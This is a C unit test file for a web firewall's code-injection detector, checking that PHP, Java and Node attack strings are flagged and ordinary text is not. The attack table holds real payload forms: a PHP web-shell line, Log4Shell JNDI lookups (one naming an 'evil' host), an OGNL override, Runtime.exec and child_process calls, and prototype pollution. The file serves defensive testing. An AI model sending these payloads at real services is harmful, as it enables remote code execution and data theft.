/* tests/waf/test_waf_code.c — unit tests for waf_detect_code (PHP / Java / Node code
 * injection). */
#include "detect.h"

#include <CUnit/Basic.h>
#include <stdlib.h>
#include <string.h>

struct sample {
    enum waf_place place;
    const char *s;
};

/* Written for these tests: attacks of the class, in its usual encodings. */
static const struct sample attacks[] = {
    {WAF_PLACE_ARG, "<?php system($_GET[\"c\"]); ?>"},
    {WAF_PLACE_ARG, "system('id')"},
    {WAF_PLACE_ARG, "phpinfo()"},
    {WAF_PLACE_ARG, "$_SERVER['HTTP_HOST']"},
    {WAF_PLACE_ARG, "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}"},
    {WAF_PLACE_ARG, "php://filter/convert.base64-encode/resource=index"},
    {WAF_PLACE_ARG, "${${lower:j}ndi:ldap://x/a}"},
    {WAF_PLACE_ARG, "${jndi:ldap://evil/x}"},
    {WAF_PLACE_ARG, "java.lang.Runtime"},
    {WAF_PLACE_ARG, "Runtime.getRuntime().exec(\"id\")"},
    {WAF_PLACE_ARG, "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"},
    {WAF_PLACE_ARG, "T(java.lang.Runtime).getRuntime()"},
    {WAF_PLACE_ARG, "rO0ABXNyABFqYXZh"},
    {WAF_PLACE_ARG, "require('child_process').exec('id')"},
    {WAF_PLACE_ARG, "process.mainModule.require(\"fs\")"},
    {WAF_PLACE_ARG, "{\"__proto__\": {\"isAdmin\": true}}"},
    {WAF_PLACE_ARG, "while(true){}"},
    {WAF_PLACE_ARG, "(['system'])[0]('uname')"},
    {WAF_PLACE_ARG, "allow_url_include=1"},
    {WAF_PLACE_ARG, "$f(101)"},
    {WAF_PLACE_ARG, "{${phpinfo()}}"},
    {WAF_PLACE_HEADER, "shell. php"},
    /* keyword tables behind the length filter: any case, longest names */
    {WAF_PLACE_ARG, "x CHILD_PROCESS y"},
    {WAF_PLACE_ARG, "new PrototypeSerializationFactory"},
    {WAF_PLACE_ARG, "Kernel.exec(\"id\")"},
    {WAF_PLACE_ARG, "BASE64_DECODE ('aWQ=')"},
    {WAF_PLACE_ARG, "a=JdbcRowSetImpl"},
};

/* Near misses: ordinary data that shares characters with the attacks. */
static const struct sample benign[] = {
    {WAF_PLACE_ARG, "the solar system (2 planets)"},
    {WAF_PLACE_ARG, "print this page"},
    {WAF_PLACE_ARG, "Price: $5 (USD)"},
    {WAF_PLACE_ARG, "I use java.com to download"},
    {WAF_PLACE_ARG, "{{name}}"},
    {WAF_PLACE_ARG, "include me in the list"},
    {WAF_PLACE_ARG, "process order #123"},
    {WAF_PLACE_ARG, "Dear Sir (or Madam)"},
    {WAF_PLACE_ARG, "extension=4412"},
    {WAF_PLACE_ARG, "8f14e45fceea167a5a36dedd4bea2543"},
    {WAF_PLACE_ARG, "SSBsb3ZlIFBIUAo="},
    {WAF_PLACE_ARG, "query AddToCart($sku: String!) { addToCart(sku: $sku) { id } }"},
    {WAF_PLACE_HEADER, "https://example.com/index.php"},
    {WAF_PLACE_ARG, "report.final.pdf"},
    /* prose: no '(' and no API word, the cheap path */
    {WAF_PLACE_ARG, "extra basil, please; it's for Tom's birthday"},
    {WAF_PLACE_ARG, "Ring twice -- the bell's broken. Don't leave it at the door!"},
};

static void test_attacks(void)
{
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        struct waf_hit h;
        memset(&h, 0, sizeof h);
        int r = waf_detect_code(attacks[i].s, strlen(attacks[i].s), attacks[i].place, &h);
        if (!r) fprintf(stderr, "missed: %s\n", attacks[i].s);
        CU_ASSERT_EQUAL(r, 1);
        if (r) {
            CU_ASSERT(h.rule != 0);
            CU_ASSERT(h.score >= 3);
            CU_ASSERT(h.reason != NULL);
            CU_ASSERT(h.at + h.len <= strlen(attacks[i].s));
        }
    }
}

static void test_benign(void)
{
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        struct waf_hit h;
        int r = waf_detect_code(benign[i].s, strlen(benign[i].s), benign[i].place, &h);
        if (r) fprintf(stderr, "false positive: %s (%s)\n", benign[i].s, h.reason);
        CU_ASSERT_EQUAL(r, 0);
    }
}

/* Arbitrary bytes: NUL, invalid UTF-8, truncated escapes, a large value; nothing
 * may crash or read out of bounds (run under ASan), and NULL hit is accepted. */
static void test_robustness(void)
{
    static const char *const odd[] = {"",   "%",  "%u12", "%c0", "\xc0", "${",
                                      "{{", "<%", "$",    "(",   "'",    "\\",
                                      "0x", "..", "/",    "|",   "`",    "[$"};
    for (size_t i = 0; i < sizeof odd / sizeof odd[0]; i++)
        for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++)
            (void)waf_detect_code(odd[i], strlen(odd[i]), (enum waf_place)p, NULL);
    size_t n = 1 << 20;
    char *big = malloc(n);
    CU_ASSERT_FATAL(big != NULL);
    for (size_t i = 0; i < n; i++)
        big[i] = (char)("a.%/\\$({<;|&'\"\0\xc0\xae"[i % 17]);
    for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++)
        (void)waf_detect_code(big, n, (enum waf_place)p, NULL);
    for (size_t i = 0; i < n; i++)
        big[i] = (char)(i * 7919u >> 3);
    for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++)
        (void)waf_detect_code(big, n, (enum waf_place)p, NULL);
    free(big);
}

int main(void)
{
    if (CU_initialize_registry() != CUE_SUCCESS) return 2;
    CU_pSuite s = CU_add_suite("waf_code", NULL, NULL);
    CU_add_test(s, "attacks", test_attacks);
    CU_add_test(s, "benign near misses", test_benign);
    CU_add_test(s, "robustness", test_robustness);
    CU_basic_set_mode(CU_BRM_VERBOSE);
    CU_basic_run_tests();
    unsigned failures = CU_get_number_of_failures();
    CU_cleanup_registry();
    return failures ? 1 : 0;
}
